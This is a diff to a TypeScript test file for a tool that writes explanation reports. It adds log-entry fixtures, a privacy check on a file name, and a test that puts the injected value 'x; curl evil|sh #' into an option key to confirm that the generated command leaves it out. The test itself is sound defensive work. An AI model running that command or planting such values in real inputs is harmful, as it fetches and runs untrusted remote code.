@@ -6,6 +6,7 @@ import { parseReasons } from '../../../src/records/reasons.ts';
 import type { Explanation } from '../../../src/records/record.ts';
 import { recordId } from '../../../src/records/record-id.ts';
 import { makeReport, type ReportOptions } from '../../../src/report/make.ts';
+import { nextEntry } from '../../../src/store/log.ts';
 import { credit, image, insult, many, penguins, regression } from '../charts/fixtures.ts';
 import { whole } from '../charts/whole/fixtures.ts';
 
@@ -38,11 +39,13 @@ const card: Card = {
   features: [...columns, 'postcode'].map((name) => ({ name, kind: 'numeric' as const, label: `The ${name}` })),
 };
 
-const log = {
-  schema: 'oriel.log/1' as const,
-  kind: 'explanation' as const,
-  ...{ n: 7, time: '2026-11-30T10:00:00Z', previous: 'a'.repeat(64), hash: 'b'.repeat(64) },
-};
+/** An entry of a log, after six others. */
+const logged = (record: Explanation, text: string) =>
+  nextEntry(
+    { schema: 'oriel.log/1', kind: 'note', n: 6, time: '2026-11-30T09:00:00Z', previous: '', hash: 'a'.repeat(64) },
+    { kind: 'explanation', record, text },
+    Date.parse('2026-11-30T10:00:00Z'),
+  );
 
 test('the person is told the decision, who decides, the reasons, the data and the rights', async () => {
   const text = words(
@@ -73,7 +76,7 @@ test('the auditor is told hashes, card, method, values, checks, protected column
     fidelity: { deletion: [[0.8, 0.3, 0.2]], deletionArea: [0.4], insertion: [[0.2, 0.7, 0.8]], insertionArea: [0.6] },
   });
   const inspection = { ...whole, model: { ...whole.model, sha256: record.model.sha256 } };
-  const entry = { ...log, record: record.id };
+  const entry = await logged(record, 'of row 3');
   const ranges = {
     file: 'all.csv',
     columns: [{ name: numeric, range: [1e6, 2e6] as [number, number], levels: null }],
@@ -198,8 +201,22 @@ test('without the data, nothing that was explained is left in the file', async (
   const text = await report(insult, { withoutInput: true });
   for (const word of insult.players.filter((player) => player.length > 3))
     expect(words(text)).not.toContain(`“${word}”`);
+  // Entries of a log name the row or the file.
+  const entry = await logged(credit, 'of anna-mueller.jpg');
+  expect(await report(credit, { log: [entry] })).toContain('anna-mueller');
+  expect(await report(credit, { log: [entry], withoutInput: true })).not.toContain('anna-mueller');
   const picture = await report(image, { withoutInput: true });
   expect(picture).not.toContain('data:image');
+});
+
+test('the command repeats the record alone, whatever stands in it', async () => {
+  const options = { discretize: false, kernelWidth: 2.5, 'x; curl evil|sh #': 'y' };
+  const html = await report({ ...penguins, explainer: { ...penguins.explainer, name: 'lime', options } }, { card });
+  const text = /The command that repeats it.*This checks/s.exec(words(html))?.[0] ?? '';
+  expect(text).toContain('--discretize=false --kernel-width 2.5');
+  expect(text).not.toContain('curl evil');
+  for (const output of penguins.outputs) expect(text).toContain(`--output ${output}`);
+  expect(text).not.toContain('--output all');
 });
 
 test('several records are told one after the other', async () => {
